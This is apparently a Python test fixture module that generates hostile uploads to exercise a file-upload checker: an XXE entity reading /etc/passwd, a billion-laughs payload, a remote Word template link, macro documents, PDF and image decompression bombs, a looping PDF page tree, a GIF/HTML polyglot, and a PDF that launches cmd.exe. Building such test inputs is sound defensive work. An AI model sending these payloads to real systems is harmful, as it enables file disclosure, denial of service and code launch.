"""Nasty documents and pictures, each by a function that makes its bytes."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.core.files.uploads import build

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
# In two halves so that this source is not such a file.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
    f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>'
)
XXE = LAUGHS.replace('<!ENTITY a "ha">', '<!ENTITY a SYSTEM "file:///etc/passwd">')
REMOTE_TEMPLATE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" TargetMode="External" Target="http://example.invalid/x.dotm"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def with_document(xml: str | bytes) -> bytes:
    return build.changed_docx({"word/document.xml": xml})


def many_paragraphs() -> bytes:
    return with_document(
        f'<w:document xmlns:w="{WORD}"><w:body>'.encode() + b"<w:p/>" * 3_000_000 + b"</w:body></w:document>"
    )


def macro_document() -> bytes:
    """A .docm with its content type, under another name."""
    return build.changed_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_type_alone() -> bytes:
    return build.changed_docx(
        {"[Content_Types].xml": "<Types><Override ContentType='x.macroEnabled.main+xml'/></Types>"}
    )


def packed_twice(size: int = 1 << 30) -> bytes:
    """A deflated stream of `size` zeros, deflated once more: one block of 1 MiB, repeated as it stands."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    once = b"\x78\xda" + block * (size >> 20) + b"\x03\x00" + struct.pack(">I", (size % 65521) << 16 | 1)
    return zlib.compress(once, 9)


def pdf_bomb() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    stream = document.make_stream(b"")
    stream.write(packed_twice(), filter=Array([Name.FlateDecode, Name.FlateDecode]))
    page.obj.Contents = stream
    return _saved(document, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def page_tree_loop() -> bytes:
    """The root of the pages is its own child."""
    document = pikepdf.new()
    document.add_blank_page()
    content = _saved(document, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    kids = content.index(b"/Kids [ ") + len(b"/Kids [ ")
    number = content.rindex(b" 0 obj", 0, kids)
    start = content.rindex(b"\n", 0, number) + 1
    own = content[start:number]
    return content[:kids] + own + content[kids + len(own) :]


def polyglot_gif() -> bytes:
    return b"GIF89a/*" + bytes(20) + b"*/=1;<html><script>alert(1)</script></html>"


def square(side: int) -> bytes:
    target = io.BytesIO()
    Image.new("1", (side, side)).save(target, "PNG")
    return target.getvalue()


def photograph(size: tuple[int, int] = (800, 600), **options: object) -> bytes:
    """A picture with something in it, so that its bytes do not shrink to nothing."""
    picture = Image.radial_gradient("L").resize(size).convert("RGB")
    target = io.BytesIO()
    picture.save(target, "JPEG", **options)
    return target.getvalue()


def scanned_over_and_over(scans: int, size: tuple[int, int] = (600, 500)) -> bytes:
    """A progressive picture whose last pass is written again and again: small, and each costs the whole picture."""
    target = io.BytesIO()
    Image.new("RGB", size, (90, 120, 200)).save(target, "JPEG", progressive=True)
    content = target.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * scans + content[-2:]


def of_many_parts(kind: str, parts: int = 400_000) -> bytes:
    """A picture with empty parts before its first line."""
    target = io.BytesIO()
    Image.new("RGB", (8, 8)).save(target, kind)
    content = target.getvalue()
    if kind == "JPEG":
        return content[:2] + b"\xff\xe5\x00\x02" * parts + content[2:]
    part = b"\x00\x00\x00\x00exIf" + struct.pack(">I", zlib.crc32(b"exIf"))
    return content[:33] + part * parts + content[33:]


def text_bomb() -> bytes:
    """Texts beside a small picture, each packed a thousand to one."""
    target = io.BytesIO()
    Image.new("RGB", (8, 8)).save(target, "PNG")
    content = target.getvalue()
    body = b"x\0\0" + zlib.compress(bytes(50_000_000), 9)
    part = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return content[:33] + part * 100 + content[33:]


def photograph_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "演示相机"
    exif[0x0112] = 6  # turned a quarter
    exif.get_ifd(0x8825)[1] = "N"
    return photograph((60, 40), exif=exif)


def launching_pdf() -> bytes:
    return build.pdf_bytes(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe"))


def dynamic_form() -> bytes:
    return build.pdf_bytes(AcroForm=Dictionary(XFA="x"))


def _saved(document: pikepdf.Pdf, **options: object) -> bytes:
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()
